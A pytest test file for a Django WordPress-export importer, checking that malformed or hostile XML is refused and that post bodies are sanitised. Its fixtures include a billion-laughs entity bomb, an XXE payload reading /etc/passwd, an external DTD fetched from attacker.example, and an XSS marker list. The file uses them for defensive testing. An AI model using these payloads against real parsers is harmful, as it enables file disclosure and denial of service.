"""Malformed and hostile exports: a clear error or a sanitised article, never a crash."""

from __future__ import annotations

import pytest
from django.core.management.base import CommandError

from articles.models import Article
from tests.test_hostile_input import injection_problems
from tests.wordpress.conftest import FIXTURE, run_import
from wordpress.models import ImportedItem, Kind
from wordpress.wxr import WXRError, parse

pytestmark = pytest.mark.django_db

WXR_HEAD = (
    '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>'
    "<wp:wxr_version>1.2</wp:wxr_version>"
)
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<rss><channel><title>&lol9;</title></channel></rss>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><title>&secret;</title></channel></rss>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss><channel><title>x</title></channel></rss>"""

BAD_FILES = {
    "billion-laughs": (BILLION_LAUGHS, "declares a DTD or XML entities"),
    "external-entity": (EXTERNAL_ENTITY, "declares a DTD or XML entities"),
    "external-dtd": (EXTERNAL_DTD, "declares a DTD or XML entities"),
    "cut-short": (FIXTURE.read_text()[:5000], r"not well-formed XML \(line \d+"),
    "not-xml": ("\x89PNG\r\n\x1a\n binary", "not well-formed XML"),
    "empty": ("  \n", "The file is empty."),
    "other-rss": ("<rss><channel><title>A feed</title></channel></rss>", "not a WordPress export"),
    "html": ("<html><body><p>Hello</p></body></html>", "not a WordPress export"),
}


@pytest.mark.parametrize(("content", "message"), BAD_FILES.values(), ids=BAD_FILES.keys())
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_saved(tmp_path, content, message):
    bad = tmp_path / "export.xml"
    bad.write_text(content, encoding="utf-8", errors="surrogateescape")

    with pytest.raises(CommandError, match=message):
        run_import(str(bad))
    assert not Article.objects.exists()
    assert not ImportedItem.objects.exists()


def test_entities_are_never_expanded():
    with pytest.raises(WXRError):
        parse(BILLION_LAUGHS.encode())


def test_items_without_an_id_and_odd_values_are_reported_not_fatal(tmp_path):
    odd = tmp_path / "odd.xml"
    odd.write_text(
        WXR_HEAD
        + "<item><title>No id</title></item>"
        + "<item><title>Huge id</title><wp:post_id>99999999999999999999999</wp:post_id></item>"
        + "<item><title>Fine</title><wp:post_id>7</wp:post_id><wp:status>draft</wp:status>"
        + "<wp:post_type>post</wp:post_type><wp:post_name>fine</wp:post_name>"
        + "<wp:post_date>0001-01-01 00:00:00</wp:post_date></item>"
        + "</channel></rss>"
    )

    out, _ = run_import(str(odd))

    assert "Item 1 (“No id”) has no post id: skipped." in out
    assert "Item 2 (“Huge id”) has no post id: skipped." in out
    assert "its date “0001-01-01 00:00:00” is out of range" in out
    assert Article.objects.get().slug == "fine"


def test_script_and_event_handlers_in_a_post_never_reach_the_page(client, media_dir):
    run_import(str(FIXTURE), "--media-dir", str(media_dir))
    article = ImportedItem.objects.get(kind=Kind.POST, wp_id=107).article

    html = article.body_html.lower()
    for marker in ("<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "style="):
        assert marker not in html
    assert "Opening words." in article.body_html
    # Text that looked like markup, or like Dossier's own syntax, stays text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt; as text" in article.body_html
    assert "[[quote:fake]]" in article.body_html and not article.body_quote_keys
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    assert injection_problems(response) == []
    assert article.title == "Hostile markup check"


def test_a_body_nested_beyond_reason_is_flattened(tmp_path):
    deep = tmp_path / "deep.xml"
    body = "<div>" * 5000 + "x" + "</div>" * 5000
    deep.write_text(
        WXR_HEAD
        + "<item><title>Deep</title><wp:post_id>1</wp:post_id><wp:status>draft</wp:status>"
        + f"<wp:post_type>post</wp:post_type><content:encoded><![CDATA[{body}]]>"
        + "</content:encoded></item>"
        + "<item><title>Fine</title><wp:post_id>2</wp:post_id><wp:status>draft</wp:status>"
        + "<wp:post_type>post</wp:post_type></item></channel></rss>"
    )
    deep.write_text(
        deep.read_text().replace(
            "<rss ", '<rss xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        )
    )

    out, _ = run_import(str(deep))

    assert "could not be imported" not in out
    assert Article.objects.get(title="Deep").body == "x\n"
    assert Article.objects.filter(title="Fine").exists()
